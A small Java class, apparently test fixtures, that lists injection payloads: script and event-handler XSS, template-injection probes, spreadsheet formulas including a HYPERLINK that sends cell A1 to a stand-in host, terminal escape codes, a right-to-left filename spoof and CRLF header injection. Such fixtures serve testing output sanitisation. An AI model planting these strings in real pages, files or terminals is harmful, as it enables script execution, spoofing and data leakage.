package org.graffiti.example;

/** Texts that do harm where they are obeyed instead of shown. Each sets the page's title, or the terminal's. */
final class Attacks {
    static final String SCRIPT = "<script>document.title='owned'</script>";
    static final String IMAGE = "\"'><img src=x onerror=\"document.title='owned'\">";
    static final String LINK = "javascript:document.title='owned'";
    static final String TEMPLATE = "{{7*7}}${7*7}<%= 7*7 %>";
    static final String FORMULA = "=HYPERLINK(\"http://sink.graffiti.example/?\"&A1,\"open\")";
    static final String TERMINAL = "\u001b]0;owned\u0007\u001b[2J\u001b[31m\u009b5m";
    static final String TURNED = "\u202Egpj.exe\u2066\u200f";
    static final String LINES = "one\r\nX-Owned: yes\u2028two\u0000three";
    static final String[] ALL = {
        SCRIPT, IMAGE, LINK, TEMPLATE, FORMULA, TERMINAL, TURNED, LINES, "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"
    };

    private Attacks() {}

    static String together() {
        return String.join(" ", ALL);
    }
}
